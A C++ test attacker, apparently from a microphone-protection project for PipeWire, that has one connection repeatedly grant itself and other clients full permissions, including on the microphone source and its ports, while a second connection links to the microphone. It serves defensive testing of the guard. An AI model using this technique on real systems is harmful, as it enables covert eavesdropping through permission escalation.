// SPDX-License-Identifier: GPL-3.0-or-later
// Two connections: the one gives the other, and every other client it may change, all permissions on everything; the
// other links itself to the microphone. Tier 4 (unsandboxed and hostile).
#include "tests/attackers/client.hpp"

#include <pipewire/permission.h>

namespace micguard::attack {
namespace {

constexpr const char* own = "raise_permissions.listener";

int attack(const Options& options) {
    Report report(options, 4);
    Loop loop(options);
    const auto raiser = Connection::open(loop, options, "raise_permissions.raiser");
    const auto listener = Connection::open(loop, options, own);
    if (!raiser || !listener || !raiser->roundTrip() || !listener->roundTrip())
        throw std::runtime_error("no server");
    FilterEar ear(*listener, report, own);
    Links links(*listener, report);
    std::uint64_t raised = 0;
    unsigned ticks = 0;
    loop.every(std::chrono::milliseconds(10), [&] {
        std::vector<pw_permission> all{{PW_ID_ANY, PW_PERM_ALL | PW_PERM_L}};
        if (const auto source = raiser->formerNode(options.source)) {
            all.push_back({source->id, PW_PERM_ALL | PW_PERM_L});
            for (const std::uint32_t port : raiser->formerPorts(source->id, "out"))
                all.push_back({port, PW_PERM_ALL | PW_PERM_L});
        }
        for (const Global& client : raiser->ofType(PW_TYPE_INTERFACE_Client)) {
            // The others only now and then: what matters is our own second connection.
            if (client.property("application.name") != own && ticks % 20 != 0)
                continue;
            if (auto* proxy = raiser->bind(client, PW_VERSION_CLIENT)) {
                pw_client_update_permissions(reinterpret_cast<pw_client*>(proxy),
                                             static_cast<std::uint32_t>(all.size()), all.data());
                ++raised;
            }
        }
        if (++ticks % 50 == 0)
            links.dropAll();
        if (links.standing() == 0)
            links.requestAll(options.source, own);
        if (report.exhausted() || raiser->lost() || listener->lost())
            loop.end();
    });
    loop.run();
    report.note("raised", raised);
    report.note("raise_errors", raiser->errors());
    report.note("standing", links.standing());
    report.print();
    return 0;
}

} // namespace
} // namespace micguard::attack

int main(int argc, char** argv) {
    using namespace micguard::attack;
    const Options options = parseOptions(argc, argv);
    return runAttack(argc, argv, options, [&] { return attack(options); });
}
